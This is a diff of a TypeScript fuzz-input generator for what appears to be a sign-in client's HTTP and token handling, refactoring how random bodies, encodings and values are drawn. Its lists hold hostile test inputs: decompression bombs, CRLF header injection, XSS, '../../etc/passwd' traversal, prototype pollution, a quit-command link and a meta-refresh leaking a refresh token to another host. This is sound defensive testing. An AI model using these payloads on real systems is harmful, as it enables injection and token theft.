@@ -87,23 +87,23 @@ function drawEncoding(random: Seeded, plain: Buffer): Encoded {
   if (random.chance(0.9)) {
     return { encoding: undefined, body: plain, plain };
   }
-  switch (random.pick(['gzip', 'deflate', 'br', 'bomb', 'lie', 'cut'])) {
-    case 'gzip':
+  switch (random.whole(1, 6)) {
+    case 1:
       return { encoding: 'gzip', body: gzipSync(plain), plain };
-    case 'deflate':
+    case 2:
       return { encoding: 'deflate', body: deflateSync(plain), plain };
-    case 'br': {
+    case 3: {
       // Large bodies take this one milliseconds.
       const start = plain.subarray(0, 2000);
       return { encoding: 'br', body: brotliCompressSync(start), plain: start };
     }
-    case 'bomb':
+    case 4:
       return random.pick(BOMBS);
-    case 'lie': {
-      const encoding = random.pick(['gzip', 'deflate', 'br', 'identity', 'zstd', 'gzip, gzip']);
-      return { encoding, body: plain, plain: undefined };
+    case 5: {
+      const lie = random.pick(['gzip', 'deflate', 'br', 'identity', 'zstd', 'gzip, gzip']);
+      return { encoding: lie, body: plain, plain: undefined };
     }
-    case 'cut': {
+    default: {
       const packed = gzipSync(plain);
       return { encoding: 'gzip', body: packed.subarray(0, random.whole(0, packed.length - 1)), plain: undefined };
     }
@@ -130,17 +130,7 @@ function drawBody(random: Seeded, operation: Operation): Buffer {
   }
   return Buffer.from(
     random.pick([
-      '',
-      ' ',
-      'null',
-      'true',
-      '"text"',
-      '0',
-      '[]',
-      '{}',
-      '[{}]',
-      'OK',
-      '{"status":200}',
+      ...['', ' ', 'null', 'true', '"text"', '0', '[]', '{}', '[{}]', 'OK', '{"status":200}'],
       '<!doctype html><title>Sign in to the network</title>',
       `<meta http-equiv="refresh" content="0;url=https://other.example/?${SENT.refreshToken}">`,
       '{"__proto__":{"access_token":"x","code":"x","error":"x"}}',
@@ -214,31 +204,10 @@ function drawValue(random: Seeded): string {
   return random.chance(0.5)
     ? JSON.stringify(drawText(random))
     : random.pick([
-        'null',
-        'true',
-        'false',
-        '0',
-        '-0',
-        '-1',
-        '0.5',
-        '1e-320',
-        '2147483648',
-        '1e308',
-        '1e999',
-        '-1e999',
-        '"5"',
-        '" 7 "',
-        '"1e9"',
-        '"-3"',
-        '"0x10"',
-        '"٣"',
+        ...['null', 'true', 'false', '0', '-0', '-1', '0.5', '1e-320', '2147483648', '1e308', '1e999'],
+        ...['-1e999', '"5"', '" 7 "', '"1e9"', '"-3"', '"0x10"', '"٣"', '[]', '["x"]', '{}', '{"length":5}'],
+        ...['"\\ud800"', '"\\u0000"'],
         `"${'9'.repeat(400)}"`,
-        '[]',
-        '["x"]',
-        '{}',
-        '{"length":5}',
-        '"\\ud800"',
-        '"\\u0000"',
       ]);
 }
 
@@ -259,23 +228,12 @@ function drawText(random: Seeded): string {
   return random.chance(0.15)
     ? random.bytes(random.whole(0, 80)).toString(random.pick(['latin1', 'utf8', 'utf16le']))
     : random.pick([
-        '',
-        ' ',
-        'plain',
-        'a\r\nSet-Cookie: x=y',
-        'a\u0000b',
-        '\u202egnp.exe',
-        'A\u200bB',
+        ...['', ' ', 'plain', 'a\r\nSet-Cookie: x=y', 'a\u0000b', '\u202egnp.exe', 'A\u200bB'],
         '[Sign in](command:workbench.action.quit)',
         '$(check) Signed in',
-        '<script>alert(1)</script>',
-        '../../etc/passwd',
-        '%s%n%00',
+        ...['<script>alert(1)</script>', '../../etc/passwd', '%s%n%00', '__proto__'],
         ...URIS,
-        '😀'.repeat(40),
-        'x'.repeat(5000),
-        'x'.repeat(20_000),
-        '__proto__',
+        ...['😀'.repeat(40), 'x'.repeat(5000), 'x'.repeat(20_000)],
         ...Object.values(SENT),
         `echo.${SENT.refreshToken}`,
         `echo.${SENT.clientSecret}`,
